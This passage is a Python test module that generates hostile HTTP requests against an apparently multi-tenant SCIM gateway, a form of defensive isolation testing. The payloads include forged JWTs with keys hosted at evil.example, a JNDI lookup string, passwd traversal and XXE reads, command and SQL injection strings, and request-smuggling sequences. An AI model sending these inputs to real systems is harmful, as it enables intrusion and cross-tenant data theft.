"""Hostile requests, by kind, each with a word on what it attacks.

`@name@` in a request stands for something of the world they are sent into (`test_hostile.World`): tokens, ids, a cursor. Requests
go to the target `alpha`, with its token unless they say otherwise; nothing of `beta` may ever be in an answer.
"""

# ruff: noqa: E501 - a list; its lines are read one entry at a time

from __future__ import annotations

import base64
import json
from collections.abc import Iterable, Iterator
from typing import Any, Literal
from urllib.parse import quote

from tests.gateway.wire import Shot

CORE = "urn:ietf:params:scim:schemas:core:2.0:User"
GROUP = "urn:ietf:params:scim:schemas:core:2.0:Group"
ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"
PATCH_OP = "urn:ietf:params:scim:api:messages:2.0:PatchOp"
BULK = "urn:ietf:params:scim:api:messages:2.0:BulkRequest"
MARK = "Kanarienvogel"
"""In values of these requests; it may stand in no log line."""
TENANT = b"/scim/v2/alpha"
USERS, GROUPS = TENANT + b"/Users", TENANT + b"/Groups"
VICTIM = USERS + b"/@alpha_victim@"
FORM = b"application/x-www-form-urlencoded"


class Hostile(Shot, frozen=True, kw_only=True):
    """One hostile request.

    Args:
        outcome: what must come of it: `refused` (4xx), `empty` (a search that finds nothing, or 4xx), `read` (answered, and nothing
            changed), or `taken` (it may be stored as the harmless text it is, at the victim or under a new name).
        signed: whether it proves to be alpha; whoever does not sees nothing at all.
    """

    outcome: Literal["refused", "empty", "read", "taken"] = "refused"
    signed: bool = True


def _json(document: Any) -> bytes:
    return json.dumps(document).encode()


def _asked(text: str | bytes, *, of: bytes = USERS, more: bytes = b"") -> bytes:
    return of + b"?filter=" + quote(text, safe="@").encode() + more


def _patch(*operations: Any) -> bytes:
    return _json({"schemas": [PATCH_OP], "Operations": list(operations)})


def _user(**attributes: Any) -> bytes:
    return _json({"schemas": [CORE], "userName": f"{MARK}@contoso.example", **attributes})


# ---- sign-in


def _b64(data: bytes) -> bytes:
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def _jwt(header: dict[str, Any], signature: bytes = b"", **claims: Any) -> bytes:
    body = {
        "iss": "https://sts.windows.net/t/",
        "aud": "8adf8e6e-67b2-4cf2-a259-e3dc5476c621",
        "exp": 9_999_999_999,
        **claims,
    }
    return b".".join((_b64(_json(header)), _b64(_json(body)), _b64(signature)))


def _wrong_sign_ins() -> Iterator[tuple[str, tuple[tuple[bytes, bytes], ...]]]:
    name = b"Authorization"
    for aims, value in (
        ("scheme", b""),
        ("scheme", b"Bearer"),
        ("scheme", b"Bearer  "),
        ("scheme", b"@token@"),
        ("scheme", b"Basic @token@"),
        ("scheme", b"Token @token@"),
        ("scheme", b"Bearer:@token@"),
        ("scheme", b"Bearer=@token@"),
        ("scheme", b"Bearer\t@token@"),
        ("scheme", b"BearerBearer @token@"),
        ("scheme", b"Digest username=@token@"),
        ("scheme", b"Negotiate @token@"),
        ("guess", b"Bearer @token@x"),
        ("guess", b"Bearer x@token@"),
        ("guess", b"Bearer @token_cut@"),
        ("guess", b"Bearer @token_upper@"),
        ("guess", b"Bearer @token_flipped@"),
        ("guess", b"Bearer @token@ @token@"),
        ("guess", b"Bearer @token@,@token@"),
        ("guess", b'Bearer "@token@"'),
        ("guess", b"Bearer @token@%00"),
        ("guess", b"Bearer @token@=="),
        ("other target", b"Bearer @beta_token@"),
        ("other target", b"Bearer @token_mixed@"),
        ("injection", b"Bearer ' OR '1'='1"),
        ("injection", b"Bearer *"),
        ("injection", b"Bearer null"),
        ("injection", b"Bearer undefined"),
        ("injection", b"Bearer ${jndi:ldap://x}"),
        ("injection", b"Bearer ../../../etc/passwd"),
        ("homoglyph", "Bearer рgk_аааа".encode()),
        ("bytes", b"Bearer \xff\xfe\xfd"),
        ("size", b"Bearer " + b"a" * 513),
        ("size", b"Bearer " + b"a.b.c" * 2_000),
        ("alg none", b"Bearer " + _jwt({"alg": "none", "typ": "JWT"})),
        ("alg none", b"Bearer " + _jwt({"alg": "None"})),
        ("alg none", b"Bearer pgt_" + _jwt({"alg": "none"})),
        ("alg confusion", b"Bearer " + _jwt({"alg": "HS256"}, b"x" * 32)),
        ("alg confusion", b"Bearer pgt_" + _jwt({"alg": "HS256"}, b"x" * 32, sub="alpha", aud="alpha")),
        ("alg confusion", b"Bearer " + _jwt({"alg": "RS256", "jku": "https://evil.example/keys"}, b"x" * 256)),
        ("alg confusion", b"Bearer " + _jwt({"alg": "RS256", "x5u": "https://evil.example/x"}, b"x" * 256)),
        (
            "alg confusion",
            b"Bearer " + _jwt({"alg": "RS256", "jwk": {"kty": "RSA", "n": "AQAB", "e": "AQAB"}}, b"x" * 256),
        ),
        ("alg confusion", b"Bearer " + _jwt({"alg": "RS256", "kid": "../../../../dev/null"}, b"x" * 256)),
        ("alg confusion", b"Bearer " + _jwt({"alg": "RS256", "crit": ["b64"], "b64": False}, b"x" * 256)),
        ("malformed", b"Bearer .."),
        ("malformed", b"Bearer a.b.c"),
        ("malformed", b"Bearer pgt_"),
        ("malformed", b"Bearer pgk_"),
        ("malformed", b"Bearer pgt_" + _b64(b"[" * 300) + b".e30.e30"),
        ("malformed", b"Bearer " + _b64(b'{"alg":"RS256","alg":"none"}') + b".e30.AA"),
    ):
        yield aims, ((name, value),)
    yield "twice", ((name, b"Bearer @token@"), (name, b"Bearer @token@"))
    yield "twice", ((name, b"Bearer x"), (name, b"Bearer @token@"))
    for elsewhere in (
        b"X-Authorization",
        b"Proxy-Authorization",
        b"X-Api-Key",
        b"X-Access-Token",
        b"X-Original-Authorization",
    ):
        yield "other header", ((name, b""), (elsewhere, b"Bearer @token@"))
    yield "cookie", ((name, b""), (b"Cookie", b"access_token=@token@; token=@token@"))
    for claim in (b"X-Forwarded-User", b"X-Remote-User", b"X-Forwarded-Client-Cert", b"X-MS-CLIENT-PRINCIPAL-NAME"):
        yield "claimed identity", ((name, b""), (claim, b"admin"))
    for address in (b"127.0.0.1", b"localhost", b"::1"):
        yield "claimed source", ((name, b""), (b"X-Forwarded-For", address), (b"X-Real-IP", address))


def sign_ins() -> Iterator[Hostile]:
    """Nobody gets in without the target's own key, in any disguise, and nobody is told why."""
    places: tuple[tuple[bytes, bytes, bytes | None], ...] = (
        (b"GET", USERS, None),
        (b"GET", USERS + b"/@alpha_user@", None),
        (b"POST", USERS, _user()),
        (b"DELETE", VICTIM, None),
        (b"POST", TENANT + b"/Bulk", _json({"schemas": [BULK], "Operations": []})),
    )
    for number, (aims, headers) in enumerate(_wrong_sign_ins()):
        for method, path, body in (places[number % len(places)], places[(number + 2) % len(places)]):
            yield Hostile(kind="sign-in", aims=aims, method=method, path=path, headers=headers, body=body, signed=False)
    unsigned = ((b"Authorization", b""),)
    for name in ("access_token", "token", "Authorization", "bearer", "api_key"):
        path = USERS + f"?{name}=@token@".encode()
        yield Hostile(kind="sign-in", aims="token in the address", path=path, headers=unsigned, signed=False)
    for target in ("beta", "nobody", "ALPHA", "alpha%20", "%61lpha%00", "alpha;beta", "alpha,beta", ".", "*", "alphа"):
        path = f"/scim/v2/{quote(target, safe='%;,*')}/Users".encode()
        yield Hostile(kind="sign-in", aims="other target", path=path)


# ---- things of another target


def foreign_ids() -> Iterator[Hostile]:
    """Ids of another target are ids of nobody."""
    kind = "foreign ids"
    for held in ("beta_user", "beta_group", "beta_key", "beta_txn"):
        for collection in (b"Users", b"Groups", b"Events", b"Schemas", b"ResourceTypes"):
            path = TENANT + b"/" + collection + b"/@" + held.encode() + b"@"
            yield Hostile(kind=kind, aims="read", path=path)
            yield Hostile(kind=kind, aims="read", method=b"HEAD", path=path)
            if collection in (b"Users", b"Groups"):
                change = _patch({"op": "replace", "path": "displayName", "value": MARK})
                yield Hostile(kind=kind, aims="change", method=b"PATCH", path=path, body=change)
                whole = _user() if collection == b"Users" else _json({"displayName": MARK})
                yield Hostile(kind=kind, aims="replace", method=b"PUT", path=path, body=whole)
                yield Hostile(kind=kind, aims="delete", method=b"DELETE", path=path)
                for header in (b"If-Match", b"If-None-Match"):
                    more = ((header, b"*"),)
                    yield Hostile(kind=kind, aims="version", method=b"GET", path=path + b"?attributes=id", headers=more)
    for text in (
        'id eq "@beta_user@"', 'userName eq "@beta_name@"', 'externalId eq "@beta_external@"', 'emails.value eq "@beta_name@"',
        'emails[type eq "work"].value eq "@beta_name@"', 'title eq "@beta_canary@"', 'title co "@beta_canary@"',
        'manager.value eq "@beta_user@"', 'meta.location co "beta"', 'meta.location co "@beta_user@"', 'target eq "beta"',
        'not (target eq "alpha")', 'id eq "@beta_user@" or id eq "@beta_group@"', 'app eq "beta"', 'displayName sw "@beta_canary@"',
    ):  # fmt: skip
        for of in (USERS, GROUPS):
            outcome: Literal["read", "empty"] = "read" if text.startswith(("not", "manager")) else "empty"
            yield Hostile(kind=kind, aims="search", path=_asked(text, of=of), outcome=outcome)
    for text in (
        'members eq "@beta_user@"',
        'members.value eq "@beta_user@"',
        'id eq "@beta_group@" and members eq "@beta_user@"',
    ):
        yield Hostile(kind=kind, aims="search", path=_asked(text, of=GROUPS), outcome="empty")
    for where in (b"/Users/.search", b"/Groups/.search", b"/.search"):
        for text in ('id eq "@beta_user@"', 'userName eq "@beta_name@"', 'displayName eq "@beta_canary@"'):
            body = _json({"filter": text})
            yield Hostile(kind=kind, aims="search", method=b"POST", path=TENANT + where, body=body, outcome="empty")
    for where in (USERS, GROUPS):
        yield Hostile(kind=kind, aims="cursor", path=where + b"?cursor=@beta_cursor@")
        yield Hostile(kind=kind, aims="cursor", path=where + b"?cursor=@beta_cursor@&count=1")
    yield Hostile(
        kind=kind, aims="cursor", method=b"POST", path=TENANT + b"/.search", body=_json({"cursor": "@beta_cursor@"})
    )
    for method, path in (
        ("DELETE", "/Users/@beta_user@"), ("PATCH", "/Users/@beta_user@"), ("PUT", "/Users/@beta_user@"),
        ("DELETE", "/Groups/@beta_group@"), ("PATCH", "/Groups/@beta_group@"), ("DELETE", "/../beta/Users/@beta_user@"),
        ("DELETE", "/scim/v2/beta/Users/@beta_user@"), ("POST", "/../beta/Users"), ("POST", "//beta/Users"),
        ("DELETE", "https://127.0.0.1/scim/v2/beta/Users/@beta_user@"), ("DELETE", "/Users/..%2f..%2fbeta%2fUsers%2f@beta_user@"),
    ):  # fmt: skip
        data = {"schemas": [PATCH_OP], "Operations": [{"op": "replace", "path": "title", "value": MARK}]}
        operation = {
            "method": method,
            "path": path,
            "bulkId": "b1",
            "data": data if method == "PATCH" else {"userName": MARK},
        }
        body = _json({"schemas": [BULK], "Operations": [operation]})
        yield Hostile(kind=kind, aims="bulk", method=b"POST", path=TENANT + b"/Bulk", body=body, outcome="read")
    for value in (
        {"value": "@beta_user@"},
        "@beta_user@",
        {"$ref": "https://x/scim/v2/beta/Users/@beta_user@", "value": "@beta_user@"},
    ):
        body = _patch({"op": "add", "path": "manager", "value": value})
        yield Hostile(kind=kind, aims="reference", method=b"PATCH", path=VICTIM, body=body, outcome="taken")


# ---- addresses


_TRAVERSALS = (
    "../beta/Users", "../beta/Users/@beta_user@", "..%2fbeta%2fUsers", "%2e%2e/beta/Users", "%2e%2e%2fbeta%2fUsers", "..;/beta/Users",
    ".%2e/beta/Users", "..%5cbeta%5cUsers", "..\\beta\\Users", "....//beta/Users", "..%252fbeta%252fUsers", "%c0%ae%c0%ae/beta/Users",
    "..%00/beta/Users", "./../beta/Users", "Users/../../beta/Users", "Users/%2e%2e/%2e%2e/beta/Users", "Users/@alpha_user@/../../../beta/Users",
    "Users;/../../beta/Users", "Users%2f..%2f..%2fbeta%2fUsers", "Users/..%c0%af..%c0%afbeta/Users",
)  # fmt: skip
_NOWHERE = (
    "Users/x/y", "Users/x/y/z", "users", "USERS", "User", "Users%00", "Users%20", "Users.json", "Users;jsessionid=1", "Users%3ffilter",
    "Users/%00", "Users/%0a", "Users/%0d%0aSet-Cookie:a=b", "Users/%ff%fe", "Users/%c0%80", "Users/%u0041", "Users/%zz", "Users/%",
    "Users/.", "Users/..", "Users/...", "Users/~root", "Users/*", "Users/_all", "Users/-1", "Users/0", "Users/null", "Users/undefined",
    "Users/true", "Users/[object%20Object]", "Users/{id}", "Users/${7*7}", "Users/{{7*7}}", "Users/%7b%7b7*7%7d%7d", "Users/<script>",
    "Users/'", 'Users/"', "Users/`id`", "Users/$(id)", "Users/|id", "Users/;id", "Users/&id", "Users/file:", "Users/http:",
    "Users/1%20OR%201=1", "Users/1'%20OR%20'1'='1", "Users/1;DROP%20TABLE%20resource", "Users/1%20UNION%20SELECT%201", "Me", "Self",
    "admin", "metrics", "api/v1/status", "openapi.json", "docs", "schema", "swagger", "debug", "console", ".git/config", ".env", "Bulk/x",
    "Events", "Events/%00", "Events/*", "Events/..", "Schemas/*", "Schemas/%2e%2e", "Schemas/urn:x", "ResourceTypes/%00", "ResourceTypes/x",
    "ServiceProviderConfig/x", "ServiceProviderConfigs", "Users/" + "a" * 65, "Users/" + "a" * 1_000, "Users/" + "%41" * 200,
    "Users/@alpha_user@%00", "Users/@alpha_user@%20", "Users/@alpha_user@.json", "Users/@alpha_user@;x", "Users/%20@alpha_user@",
    "Groups/@alpha_user@", "Users/@alpha_group@", "Users/%EF%BC%A1", "Users/\u00e9", "Users/e%CC%81", "Users/%F0%9F%98%80",
)  # fmt: skip
_OUTSIDE = (
    "/", "//", "/scim", "/scim/", "/scim/v2", "/scim/v2/", "/scim/v1/alpha/Users", "/SCIM/v2/alpha/Users", "/scim/v2/alpha",
    "/v2/alpha/Users", "/Users", "/api/v1/status", "/api/v1/keys", "/metrics", "/oauth2/alpha", "/oauth2/alpha/token/x", "/health",
    "/health/../scim/v2/alpha/Users", "/health/live/../../scim/v2/beta/Users", "/health/%2e%2e/scim/v2/beta/Users", "/health/x",
    "/.well-known/openid-configuration", "/favicon.ico", "/robots.txt", "/%2fscim/v2/beta/Users", "//scim//v2//beta//Users", "/scim/v2//Users",
    "*", "http://127.0.0.1/scim/v2/beta/Users", "http://evil.example/", "/scim/v2/alpha/Users#/../../beta/Users", "/%00", "/\\beta",
)  # fmt: skip


def addresses() -> Iterator[Hostile]:
    """No detour leads to another target, and what is nowhere is 404."""
    for tail in _TRAVERSALS:
        for method in (b"GET", b"POST"):
            body = _user() if method == b"POST" else None
            path = TENANT + b"/" + tail.encode()
            yield Hostile(kind="path tricks", aims="traversal", method=method, path=path, body=body)
    for tail in _NOWHERE:
        for method in (b"GET", b"DELETE"):
            yield Hostile(kind="path tricks", aims="no such thing", method=method, path=TENANT + b"/" + tail.encode())
    for path in _OUTSIDE:
        yield Hostile(
            kind="path tricks", aims="outside", path=path.encode(), outcome="read" if "#" in path else "refused"
        )


# ---- headers


def headers() -> Iterator[Hostile]:
    """What a proxy may say is not believed from anybody else, and no header changes the method, the target or the address."""
    kind = "header tricks"
    for name in (
        "X-Original-URL",
        "X-Rewrite-URL",
        "X-Forwarded-Path",
        "X-Forwarded-Prefix",
        "X-Original-URI",
        "X-Forwarded-Uri",
        "Referer",
    ):
        for value in ("/scim/v2/beta/Users", "/scim/v2/beta/Users/@beta_user@"):
            head = ((name.encode(), value.encode()),)
            yield Hostile(kind=kind, aims="other address", path=USERS + b"/@beta_user@", headers=head)
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"):
        for value in ("DELETE", "PUT", "PATCH"):
            head = ((name.encode(), value.encode()),)
            yield Hostile(kind=kind, aims="other method", path=VICTIM, headers=head, outcome="read")
            yield Hostile(kind=kind, aims="other method", method=b"POST", path=VICTIM, headers=head, body=b"{}")
    for value in (
        b"evil.example", b"127.0.0.1:99999", b"127.0.0.1\x00", b"evil.example/scim", b"a" * 300, b"evil.example@127.0.0.1", b"<script>",
        b"127.0.0.1 evil.example", b"[::1]", b"xn--", b"evil.example, 127.0.0.1", "еvil.example".encode(), b'"', b"..", b"%00",
    ):  # fmt: skip
        yield Hostile(
            kind=kind, aims="host", path=USERS + b"/@alpha_victim@", headers=((b"Host", value),), outcome="read"
        )
    for name in (
        "X-Forwarded-Host",
        "X-Forwarded-Proto",
        "X-Forwarded-Port",
        "Forwarded",
        "X-Forwarded-Server",
        "X-Host",
        "X-Forwarded-Scheme",
    ):
        for value in ("evil.example", "javascript", "host=evil.example;proto=ftp", "\\\\evil", "a" * 5_000):
            head = ((name.encode(), value.encode()),)
            yield Hostile(kind=kind, aims="base address", path=VICTIM, headers=head, outcome="read")
    for value in (
        b"*, *",
        b'W/"0"',
        b'"0"',
        b"0",
        b",,,,",
        b'W/"' + b"9" * 400 + b'"',
        b'W/"1" OR 1=1',
        b"\xff\xfe",
        b'"' * 500,
    ):
        for method in (b"DELETE", b"PATCH", b"PUT"):
            body = {b"PATCH": _patch({"op": "replace", "path": "title", "value": MARK}), b"PUT": _user()}.get(method)
            yield Hostile(
                kind=kind, aims="version", method=method, path=VICTIM, headers=((b"If-Match", value),), body=body
            )
    for value in (
        b"respond-async, wait=-1",
        b"respond-async;" * 200,
        b"wait=" + b"9" * 200,
        b"respond-async, wait=1e9",
        b"return=minimal",
    ):
        body = _patch({"op": "replace", "path": "userName", "value": ""})
        yield Hostile(
            kind=kind, aims="patience", method=b"PATCH", path=VICTIM, headers=((b"Prefer", value),), body=body
        )
    for value in (b"00-" + b"0" * 32 + b"-" + b"0" * 16 + b"-00", b"ff-x", b"a" * 4_000, b"00-\xff", b"' OR 1=1"):
        yield Hostile(
            kind=kind,
            aims="trace",
            path=VICTIM,
            headers=((b"traceparent", value), (b"tracestate", value)),
            outcome="read",
        )
    yield Hostile(kind=kind, aims="size", path=USERS, headers=((b"X", b"a" * 17_000),))
    yield Hostile(kind=kind, aims="size", path=USERS, headers=tuple((b"X-%d" % n, b"a" * 80) for n in range(300)))
    yield Hostile(kind=kind, aims="size", path=USERS, headers=((b"Cookie", b"a=b; " * 4_000),))
    for number, value in enumerate((b"a\x00b", b"a\x01b", b"a\rb", b"a\nb", b"\x7f", b"a\r\nX-Set: b")):
        outcome: Literal["refused", "read"] = "refused" if number < 4 else "read"
        yield Hostile(kind=kind, aims="control characters", path=VICTIM, headers=((b"X-Odd", value),), outcome=outcome)
    for value in (b"gzip", b"deflate", b"br", b"zstd", b"gzip, gzip", b"x"):
        body = b"\x1f\x8b\x08\x00" + b"\0" * 200
        yield Hostile(
            kind=kind, aims="encoding", method=b"POST", path=USERS, headers=((b"Content-Encoding", value),), body=body
        )
    for value in (b"bytes=0-0", b"bytes=0-999999999999", b"bytes=-1,-1,-1,-1"):
        yield Hostile(kind=kind, aims="range", path=VICTIM, headers=((b"Range", value),), outcome="read")
    for name, value in (
        (b"Upgrade", b"h2c"),
        (b"Upgrade", b"websocket"),
        (b"Connection", b"Upgrade, HTTP2-Settings"),
        (b"TE", b"trailers"),
    ):
        more = ((name, value), (b"HTTP2-Settings", b"AAMAAABkAAQAAP__"))
        yield Hostile(kind=kind, aims="upgrade", path=VICTIM, headers=more, outcome="read")


# ---- smuggling


def smuggling() -> Iterator[Hostile]:
    """A second request hidden in the first is refused with it, or is a body; nobody gets an answer to it."""
    kind = "smuggling"
    top = b"POST /scim/v2/alpha/Users HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer @token@\r\nContent-Type: application/json\r\n"
    hidden = b"GET /scim/v2/beta/Users HTTP/1.1\r\nHost: 127.0.0.1\r\nX: "
    chunked = b"0\r\n\r\n" + hidden
    lengths: tuple[tuple[str, bytes], ...] = (
        ("CL.TE", b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n"),
        ("TE.CL", b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n"),
        ("TE.TE", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"Transfer-Encoding: x, chunked\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"Transfer-Encoding: chunked, identity\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"Transfer-Encoding : chunked\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"Transfer-Encoding:\x0bchunked\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"Transfer-Encoding: chunk\r\nContent-Length: %d\r\n"),
        ("TE.TE", b'Transfer-Encoding: "chunked"\r\nContent-Length: %d\r\n'),
        ("TE.TE", b" Transfer-Encoding: chunked\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"X: a\nTransfer-Encoding: chunked\r\nContent-Length: %d\r\n"),
        ("TE.TE", b"Transfer_Encoding: chunked\r\nContent-Length: %d\r\n"),
        ("CL.CL", b"Content-Length: 0\r\nContent-Length: %d\r\n"),
        ("CL.CL", b"Content-Length: %d\r\nContent-Length: 0\r\n"),
        ("CL.CL", b"Content-Length: 0, %d\r\n"),
        ("CL.CL", b"Content-Length: +%d\r\n"),
        ("CL.CL", b"Content-Length: -%d\r\n"),
        ("CL.CL", b"Content-Length: 0x%x\r\n"),
        ("CL.CL", b"Content-Length: %d.0\r\n"),
        ("CL.CL", b"Content-Length: 1_0%d\r\n"),
        ("CL.CL", b"Content-Length: \xd9\xa1%d\r\n"),
        ("CL.CL", b"Content-Length: 18446744073709551616%d\r\n"),
        ("CL.CL", b"Content-Length : %d\r\n"),
        ("CL.CL", b"Content-Length\x00: %d\r\n"),
    )
    for aims, lines in lengths:
        line = lines % len(chunked) if b"%" in lines else lines
        yield Hostile(kind=kind, aims=aims, raw=top + line + b"\r\n" + chunked)
        yield Hostile(
            kind=kind, aims=aims, raw=top + b"Connection: keep-alive\r\n" + line + b"\r\n" + hidden + b"y\r\n\r\n"
        )
    chunk = top + b"Transfer-Encoding: chunked\r\n\r\n"
    for bad in (
        b"zz\r\n", b"-1\r\n", b"+5\r\nhello\r\n", b"0x5\r\nhello\r\n", b"5 \r\nhello\r\n", b" 5\r\nhello\r\n", b"5\nhello\n0\n\n",
        b"ffffffffffffffff1\r\n", b"5\r\nhelloX\r\n0\r\n\r\n", b"5\r\nhello\n0\r\n\r\n", b"5\r\rhello\r\n", b"\r\n5\r\nhello\r\n",
        b"0\r\nX: y\r\n" + hidden, b"0\n\r\n" + hidden, b"\xd9\xa1\r\nx\r\n",
    ):  # fmt: skip
        yield Hostile(kind=kind, aims="chunks", raw=chunk + bad + b"\r\n\r\n")
    for first in (
        b"GET /scim/v2/alpha/Users\r\n", b"GET  /scim/v2/alpha/Users HTTP/1.1\r\n", b"GET /scim/v2/alpha/Users HTTP/1.1 x\r\n",
        b"GET\t/scim/v2/alpha/Users\tHTTP/1.1\r\n", b"GET /scim/v2/alpha/Users HTTP/2.0\r\n", b"GET /scim/v2/alpha/Users http/1.1\r\n",
        b"GET /scim/v2/alpha/Users HTTP/1.\r\n", b"GET /scim/v2/alpha/ Users HTTP/1.1\r\n", b"GET /scim/v2/alpha/Users\x00 HTTP/1.1\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x00\x00\x00\x00", b"CONNECT beta:80 HTTP/1.1\r\n",
        b"HTTP/1.1 200 OK\r\n", b"GET http://beta/scim/v2/beta/Users HTTP/1.1\r\n", b"G\xffT / HTTP/1.1\r\n", b"get / HTTP/1.1\r\n",
    ):  # fmt: skip
        raw = first + b"Host: 127.0.0.1\r\n\r\n"
        yield Hostile(kind=kind, aims="request line", raw=raw, signed=False)
    for lines in (
        b"Host: a\r\nHost: b\r\n", b"", b"Host: a\r\n folded\r\n", b"Host a\r\n", b": a\r\n", b"Host: a\r\n\x00: b\r\n", b"Ho st: a\r\n",
        b"Host: a\r\nX: \xff\xfe\r\n", b"Host: a\rX: b\r\n",
    ):  # fmt: skip
        yield Hostile(
            kind=kind, aims="header lines", raw=b"GET /scim/v2/beta/Users HTTP/1.1\r\n" + lines + b"\r\n", signed=False
        )


# ---- bodies


def _bombs() -> Iterator[tuple[str, bytes]]:
    name = b'{"userName":"' + MARK.encode() + b'"'
    yield "depth", b"[" * 100_000
    yield "depth", b'{"a":' * 30_000
    yield "depth", b"[" * 40 + b"]" * 40
    yield "depth", name + b',"x":' + b"[" * 33 + b"1" + b"]" * 33 + b"}"
    yield "depth", name + b',"x":' + b'{"a":' * 33 + b"1" + b"}" * 33 + b"}"
    yield "keys", name + b"," + b",".join(b'"k%d":1' % n for n in range(2_100)) + b"}"
    yield "keys", b"{" + b",".join(b'"k":1' for _ in range(1_000)) + b"}"
    yield (
        "entries",
        name + b',"emails":[' + b",".join(b'{"value":"%d","type":"work"}' % n for n in range(5_000)) + b"]}",
    )
    yield "twice", name + b',"userName":"b"}'
    yield "twice", name + b',"\\u0075serName":"b"}'
    yield "twice", name + b',"username":"b"}'
    yield "twice", name + b',"name":{"givenName":"a","givenName":"b"}}'
    yield "zero", name + b',"title":"a\\u0000b"}'
    yield "zero", name + b',"a\\u0000b":"x"}'
    yield "zero", name + b',"title":"a\0b"}'
    yield "control", name + b',"title":"a\nb"}'
    yield "UTF-8", name + b',"title":"\xff"}'
    yield "UTF-8", name + b',"title":"\xc0\xaf"}'
    yield "UTF-8", name + b',"title":"\xed\xa0\x80"}'
    yield "UTF-8", name + b',"title":"\xf4\x90\x80\x80"}'
    yield "surrogates", name + b',"title":"\\ud800"}'
    yield "surrogates", name + b',"title":"\\udc00\\ud800"}'
    yield "surrogates", name + b',"\\ud800":1}'
    yield "string", name + b',"title":"' + b"a" * 5_000 + b'"}'
    yield "string", b'{"userName":"' + b"a" * 100_000 + b'"}'
    yield "number", name + b',"x":1e999}'
    yield "number", name + b',"x":NaN}'
    yield "number", name + b',"x":Infinity}'
    yield "number", name + b',"x":-}'
    yield "number", name + b',"x":01}'
    yield "number", name + b',"x":0x10}'
    yield "syntax", name
    yield "syntax", name + b",}"
    yield "syntax", name + b"}}"
    yield "syntax", name + b"}{}"
    yield "syntax", name.replace(b'"', b"'") + b"}"
    yield "syntax", b"/* */" + name + b"}"
    yield "syntax", b")]}'," + name + b"}"
    yield "syntax", b"\xff\xfe" + (name + b"}").decode().encode("utf-16-le")
    yield "syntax", b""
    yield "syntax", b"   \n"
    yield "syntax", b"\0"
    yield "shape", b"[]"
    yield "shape", b"null"
    yield "shape", b"1"
    yield "shape", b'"userName"'
    yield "shape", b"true"
    yield "shape", b"{}"
    yield "shape", b'{"userName":null}'
    yield "shape", b'{"userName":""}'
    yield "shape", b'{"userName":"  "}'
    yield "shape", b'{"userName":[]}'
    yield "shape", b'{"userName":{"value":["a"]}}'
    yield "shape", b'{"userName":1}'
    yield "shape", b'{"__proto__":{"userName":"a"}}'
    yield "entity", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def bodies() -> Iterator[Hostile]:
    """What a decoder stumbles over is 400 at every address that takes a body."""
    places = ((b"POST", USERS), (b"PUT", VICTIM), (b"PATCH", VICTIM), (b"POST", GROUPS), (b"POST", TENANT + b"/Bulk"))
    for aims, body in _bombs():
        for method, path in places:
            yield Hostile(kind="JSON bombs", aims=aims, method=method, path=path, body=body)


# ---- filters and paths


_FILTERS = (
    ("depth", "(" * 9 + "id pr" + ")" * 9), ("depth", "(" * 400 + "id pr" + ")" * 400), ("depth", "not (" * 20 + "id pr" + ")" * 20),
    ("depth", "emails[" * 20 + "type pr" + "]" * 20), ("depth", "(" * 500), ("depth", "[" * 500), ("depth", ")" * 500),
    ("terms", " and ".join(["id pr"] * 33)), ("terms", " or ".join(["id pr"] * 33)), ("size", 'id eq "' + "a" * 1_100 + '"'),
    ("size", "a" * 300 + " pr"), ("size", "a." * 200 + "b pr"), ("password", "password pr"), ("password", 'PassWord sw "a"'),
    ("password", f'{CORE}:password eq "a"'), ("password", 'not (password eq "a")'), ("password", 'emails[password eq "a"]'),
    ("password", 'name.password eq "a"'), ("quotes", 'userName eq "a'), ("quotes", 'userName eq a"'), ("quotes", "userName eq 'a' b"),
    ("quotes", 'userName eq "a" "b"'), ("quotes", 'userName eq "a\\"'), ("quotes", 'userName eq "\\x41"'), ("quotes", 'userName eq "\\u12"'),
    ("zero", 'userName eq "\\u0000"'), ("zero", 'userName eq "a\0"'), ("surrogates", 'userName eq "\\ud800"'), ("syntax", ""), ("syntax", " "),
    ("syntax", "and"), ("syntax", "or or or"), ("syntax", "not"), ("syntax", "()"), ("syntax", "[]"), ("syntax", "eq eq"), ("syntax", "userName"),
    ("syntax", "userName eq"), ("syntax", 'eq "a"'), ("syntax", 'userName == "a"'), ("syntax", 'userName = "a"'), ("syntax", 'userName like "a"'),
    ("syntax", 'userName regex ".*"'), ("syntax", 'userName in ("a")'), ("syntax", 'userName eq ("a")'), ("syntax", 'userName eq ["a"]'),
    ("syntax", 'userName eq "a" && id pr'), ("syntax", 'userName eq "a" and'), ("syntax", 'userName eq "a");--'), ("syntax", "userName pr pr"),
    ("syntax", "*"), ("syntax", "1=1"), ("syntax", "true"), ("syntax", "userName\neq\n\"a\""), ("syntax", "emails[]"), ("syntax", "emails[type]"),
    ("syntax", 'emails[type eq "a"'), ("syntax", 'emails.type[value eq "a"]'), ("syntax", 'emails[type eq "a"].value'),
    ("syntax", 'emails[type eq "a"][value eq "b"]'), ("syntax", 'urn:: eq "a"'), ("syntax", ': eq "a"'), ("syntax", '. eq "a"'),
    ("syntax", 'name. eq "a"'), ("syntax", 'name..x eq "a"'), ("syntax", '-where eq "1"'), ("syntax", "function(){} pr"),
    ("types", "active gt true"), ("types", "meta.created gt \"x\""), ("types", "userName gt null"), ("types", 'x509Certificates gt "a"'),
    ("types", 'meta.lastModified lt "9999999999-01-01T00:00:00Z"'), ("members", "members pr"), ("members", 'members co "a"'),
    ("members", 'not (members.display eq "a")'), ("injection", "userName eq \"a\" UNION SELECT 1"), ("injection", 'userName;DROP eq "a"'),
